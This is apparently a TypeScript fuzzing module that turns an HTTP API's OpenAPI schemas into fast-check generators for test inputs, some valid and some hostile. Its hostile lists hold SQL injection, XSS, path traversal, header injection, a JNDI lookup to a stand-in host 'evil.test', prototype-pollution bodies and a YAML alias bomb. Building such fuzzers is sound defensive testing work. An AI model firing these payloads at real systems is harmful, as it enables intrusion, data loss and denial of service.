/**
 * Generators for fuzzing an HTTP API from its OpenAPI document (fast-check): values that follow an operation's JSON
 * Schema, and hostile ones — wrong types, nulls, deep nesting, huge strings and arrays, prototype-pollution keys,
 * unicode of every plane (lone surrogates included), YAML alias bombs. Raw bodies are built as strings so that shapes
 * `JSON.stringify` would refuse or normalise (10,000 nested arrays, an own `__proto__` key) reach the server as sent.
 */
import fc from 'fast-check';

export type JsonSchema = Record<string, unknown>;

/** A body as sent on the wire. */
export interface WireBody {
  contentType: string;
  payload: string;
}

const nested = (depth: number, open: string, close: string, inner = '1') =>
  `${open.repeat(depth)}${inner}${close.repeat(depth)}`;

/** Strings an attacker would try in any text field. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom(
    '',
    ' ',
    '\u0000',
    'a\r\nBcc: mallory@evil.test',
    '=HYPERLINK("http://evil.test")',
    "'; drop table users; --",
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    '%00',
    '\uFEFF\u202E\uD800',
    '__proto__',
    'constructor',
    '9'.repeat(400),
    '-1',
    'NaN',
    '1e309',
    'true',
    'null',
    '{{7*7}}',
    '${jndi:ldap://evil.test/a}',
  ),
  fc.constant('x'.repeat(100_000)),
);

/** Any JSON value an attacker might put where something else was expected. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -1,
    1.5,
    Number.MAX_SAFE_INTEGER,
    -Number.MAX_SAFE_INTEGER,
    1e308,
    [],
    {},
    [null],
    { length: 1e9 },
  ),
  fc.jsonValue({ maxDepth: 4 }),
  fc.array(fc.constant('a'), { minLength: 2_000, maxLength: 2_000 }),
);

/** Raw JSON bodies that a generated value cannot express. */
export const hostileJson: fc.Arbitrary<string> = fc.constantFrom(
  nested(10_000, '[', ']'),
  nested(10_000, '{"a":', '}'),
  `[${new Array(100_000).fill('1').join(',')}]`,
  `{"items":[${new Array(50_000).fill('{}').join(',')}]}`,
  '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  '{"a":1,"a":2}',
  '"just a string"',
  'null',
  '[]',
  '1e999999',
  '{"a":"\\ud800"}',
  '{',
  '\uFEFF{}',
);

/** YAML documents that cost a naive parser dearly: alias bombs ("billion laughs"), deep nesting, many anchors. */
export const hostileYaml: fc.Arbitrary<string> = fc.constantFrom(
  [
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
    'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
    'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
    'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
    'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
    'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
    'g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
    'h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]',
    'i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]',
  ].join('\n'),
  nested(10_000, '[', ']'),
  nested(5_000, '- ', '', 'x'),
  `${Array.from({ length: 5_000 }, (_, i) => `k${i}: &a${i} v`).join('\n')}\n`,
  '!!js/function "function(){}"',
  '%YAML 9.9\n---\na: 1',
  'organisation: &o {id: x}\norganisation2: *o\n<<: *o',
  '',
  '\t\t\u0000',
);

function patternArbitrary(pattern: string): fc.Arbitrary<string> | undefined {
  try {
    return fc.stringMatching(new RegExp(pattern));
  } catch {
    return undefined;
  }
}

function stringArbitrary(schema: JsonSchema): fc.Arbitrary<string> {
  const format = schema.format as string | undefined;
  const min = (schema.minLength as number | undefined) ?? 0;
  const max = Math.min((schema.maxLength as number | undefined) ?? Math.max(min, 30), Math.max(min, 200));
  if (format === 'uuid') return fc.uuid();
  if (format === 'email') return fc.emailAddress();
  if (format === 'date-time')
    return fc
      .date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
      .map((d) => d.toISOString());
  if (format === 'date')
    return fc
      .date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10));
  if (format === 'uri') return fc.webUrl();
  if (typeof schema.pattern === 'string') {
    // No filter on the length: a pattern's strings are short, and fast-check would search forever for a long one.
    // A pattern made of one character class gets strings of that class at the declared lengths instead.
    const single = /^\^?(\[[^\]]+\])[+*]\$?$/.exec(schema.pattern);
    const matching = single ? patternArbitrary(`^${single[1]}$`) : patternArbitrary(schema.pattern);
    if (single && matching)
      return fc
        .array(matching, { minLength: Math.max(min, 1), maxLength: Math.max(max, min, 1) })
        .map((chars) => chars.join(''));
    if (matching) return matching;
  }
  return fc.string({ minLength: min, maxLength: max });
}

function numberArbitrary(schema: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const min =
    (schema.minimum as number | undefined) ??
    (typeof schema.exclusiveMinimum === 'number' ? schema.exclusiveMinimum + 1 : -1e6);
  const max =
    (schema.maximum as number | undefined) ??
    (typeof schema.exclusiveMaximum === 'number' ? schema.exclusiveMaximum - 1 : 1e6);
  return integer
    ? fc.integer({ min: Math.ceil(Math.max(min, -1e9)), max: Math.floor(Math.min(max, 1e9)) })
    : fc.double({ min, max, noNaN: true, noDefaultInfinity: true });
}

/**
 * Values following a JSON Schema (the subset zod emits: types, enums, consts, anyOf/oneOf/allOf, formats, patterns,
 * lengths, bounds, objects with required properties, arrays, tuples, local `$ref`s). Unknown shapes give any JSON.
 */
export function fromSchema(
  schema: JsonSchema | undefined,
  root: JsonSchema = schema ?? {},
  depth = 0,
): fc.Arbitrary<unknown> {
  if (!schema || depth > 8) return fc.jsonValue({ maxDepth: 2 });
  if (typeof schema.$ref === 'string') {
    const name = schema.$ref.replace(/^#\/(\$defs|definitions)\//, '');
    const defs = (root.$defs ?? root.definitions ?? {}) as Record<string, JsonSchema>;
    return fromSchema(defs[name], root, depth + 1);
  }
  if ('const' in schema) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...(schema.enum as unknown[]));
  for (const key of ['anyOf', 'oneOf'] as const) {
    const options = schema[key];
    if (Array.isArray(options) && options.length)
      return fc.oneof(...(options as JsonSchema[]).map((option) => fromSchema(option, root, depth + 1)));
  }
  if (Array.isArray(schema.allOf) && schema.allOf.length)
    return fromSchema(Object.assign({}, ...(schema.allOf as JsonSchema[])), root, depth + 1);
  const type = Array.isArray(schema.type) ? (schema.type as string[]) : schema.type ? [schema.type as string] : [];
  if (type.length > 1) return fc.oneof(...type.map((t) => fromSchema({ ...schema, type: t }, root, depth + 1)));
  switch (type[0]) {
    case 'string':
      return stringArbitrary(schema);
    case 'integer':
      return numberArbitrary(schema, true);
    case 'number':
      return numberArbitrary(schema, false);
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array': {
      if (Array.isArray(schema.prefixItems))
        return fc.tuple(...(schema.prefixItems as JsonSchema[]).map((item) => fromSchema(item, root, depth + 1)));
      const minLength = (schema.minItems as number | undefined) ?? 0;
      const maxLength = Math.min((schema.maxItems as number | undefined) ?? 4, Math.max(minLength, 4));
      return fc.array(fromSchema(schema.items as JsonSchema | undefined, root, depth + 1), { minLength, maxLength });
    }
    case 'object': {
      const properties = (schema.properties ?? {}) as Record<string, JsonSchema>;
      const required = new Set((schema.required ?? []) as string[]);
      const record: Record<string, fc.Arbitrary<unknown>> = {};
      for (const [name, property] of Object.entries(properties)) record[name] = fromSchema(property, root, depth + 1);
      const base = fc.record(record, { requiredKeys: [...required].filter((name) => name in properties) });
      const extra = schema.additionalProperties;
      if (extra && typeof extra === 'object' && Object.keys(properties).length === 0) {
        return fc.dictionary(
          fc.string({ minLength: 1, maxLength: 12 }),
          fromSchema(extra as JsonSchema, root, depth + 1),
          { maxKeys: 4 },
        );
      }
      return base;
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** One value of the schema with one field replaced by a hostile value (wrong type, null, huge, unicode…). */
export function mutated(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc
    .tuple(valid, hostileValue, fc.nat(), fc.constantFrom('replace', 'add', 'proto', 'wrap'))
    .map(([value, hostile, pick, how]) => {
      if (!value || typeof value !== 'object' || Array.isArray(value)) return how === 'wrap' ? [value] : hostile;
      const copy: Record<string, unknown> = { ...(value as Record<string, unknown>) };
      const keys = Object.keys(copy);
      if (how === 'replace' && keys.length) copy[keys[pick % keys.length]!] = hostile;
      else if (how === 'proto')
        Object.defineProperty(copy, '__proto__', {
          value: { polluted: hostile },
          enumerable: true,
          configurable: true,
          writable: true,
        });
      else if (how === 'wrap' && keys.length) copy[keys[pick % keys.length]!] = [copy[keys[pick % keys.length]!]];
      else copy[`extra${pick % 7}`] = hostile;
      return copy;
    });
}

/** A JSON body for an operation: valid, mutated, or one of the raw hostile documents. */
export function jsonBody(schema: JsonSchema | undefined): fc.Arbitrary<WireBody> {
  const valid = fromSchema(schema);
  return fc.oneof(
    {
      weight: 3,
      arbitrary: valid.map((value) => ({ contentType: 'application/json', payload: JSON.stringify(value) ?? 'null' })),
    },
    {
      weight: 3,
      arbitrary: mutated(valid).map((value) => ({
        contentType: 'application/json',
        payload: JSON.stringify(value) ?? 'null',
      })),
    },
    { weight: 2, arbitrary: hostileJson.map((payload) => ({ contentType: 'application/json', payload })) },
  );
}

/** Query or path values: from the schema, or hostile strings (repeated keys become arrays on the server). */
export function parameterValue(
  schema: JsonSchema | undefined,
  known: readonly string[] = [],
): fc.Arbitrary<string | string[]> {
  const fromDoc = fromSchema(schema).map((value) =>
    typeof value === 'string' ? value : (JSON.stringify(value) ?? ''),
  );
  return fc.oneof(
    { weight: 3, arbitrary: fromDoc },
    ...(known.length ? [{ weight: 3, arbitrary: fc.constantFrom(...known) }] : []),
    { weight: 2, arbitrary: hostileString },
    { weight: 1, arbitrary: fc.array(fromDoc, { minLength: 2, maxLength: 3 }) },
  );
}
